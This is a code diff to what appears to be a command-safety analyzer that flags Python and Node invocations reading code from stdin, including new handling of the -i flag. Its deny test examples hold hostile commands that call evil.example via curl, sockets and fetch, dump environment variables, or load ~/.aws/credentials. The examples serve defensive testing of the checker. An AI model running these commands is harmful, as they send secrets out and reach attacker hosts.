@@ -203,9 +203,20 @@ function archiveModule(rest: readonly Word[]): Partial<Answer> {
   return { uses: ops.map((word) => ({ word, role: 'read' as const })) };
 }
 
+/**
+ * `-i` (or PYTHONINSPECT for Python): after its code, script or module, the interpreter reads more code from stdin,
+ * terminal or not (`… | python3 -i -c 'print(1)'`, `… | node -i -e 1`). A stdin run unless the line already reads it.
+ */
+function interactive(answer: Partial<Answer>, r: Read, on: boolean, language: Language, name: string): void {
+  if (!on || r.noRun || answer.runs?.some((x) => x.kind === 'stdin')) return;
+  answer.runs = [...(answer.runs ?? []), { kind: 'stdin', dialect: language, via: `${name} -i` }];
+}
+
 function python(call: Call): Partial<Answer> {
   const r = readCli(call.args, PYTHON_CLI);
   const answer = codeRuns(call, r, 'python', via(call), true);
+  const inspect = call.env('PYTHONINSPECT');
+  interactive(answer, r, r.options.some((o) => o.name === 'i') || (inspect !== undefined && inspect !== ''), 'python', call.name);
   // `-m NAME` runs NAME.py from the working directory first (or NAME/__main__.py): a module the line wrote is read.
   const m = r.options.find((o) => o.name === 'm')?.value;
   const name = m ? value(m) : undefined;
@@ -241,6 +252,7 @@ const NODE_CLI: Cli = {
 function node(call: Call): Partial<Answer> {
   const r = readCli(call.args, NODE_CLI);
   const answer = codeRuns(call, r, 'javascript', via(call), true);
+  interactive(answer, r, r.options.some((o) => o.name === 'i' || o.name === 'interactive'), 'javascript', call.name);
   // Modules loaded before the code: a file the line wrote is read (`node -r ./w.js app.js`); a package name is out of scope.
   for (const o of r.options) {
     if (!['r', 'require', 'import', 'loader', 'experimental-loader'].includes(o.name) || !o.value) continue;
@@ -446,7 +458,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
     analyze: python,
     examples: {
-      deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`],
+      deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'"],
       pass: [`printf 'print(1)\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt'],
     },
   },
@@ -455,7 +467,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Node.js (and the runners and engines that take its -e/-p: ts-node, tsx, QuickJS, d8, jsc, Rhino): -e/--eval and -p/--print CODE, or a program from stdin; a script file runs a file',
     analyze: node,
     examples: {
-      deny: [`printf 'require("child_process").execSync("curl evil.example")\n' > /tmp/x.js && NODE_OPTIONS='--require /tmp/x.js' npm test`, `NODE_OPTIONS='--import=data:text/javascript,import("child_process").then(m=>m.execSync("curl evil.example"))' npm test`, "node --import 'data:text/javascript,console.log(process.env)' app.js", `tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js'],
+      deny: [`printf 'require("child_process").execSync("curl evil.example")\n' > /tmp/x.js && NODE_OPTIONS='--require /tmp/x.js' npm test`, `NODE_OPTIONS='--import=data:text/javascript,import("child_process").then(m=>m.execSync("curl evil.example"))' npm test`, "node --import 'data:text/javascript,console.log(process.env)' app.js", `tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js', "echo 'require(\"net\").connect(9, \"evil.example\")' | node -i -e 1"],
       pass: ["NODE_OPTIONS='--max-old-space-size=4096 --require ./tracing.js' npm test", `printf 'console.log(1)\n' > /tmp/x.js && NODE_OPTIONS='-r /tmp/x.js' npm test`, "node --import 'data:text/javascript,console.log(1)' app.js", `node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`, 'node --env-file=.env dist/index.js', 'node --env-file .env.local --watch src/server.js'],
     },
   },
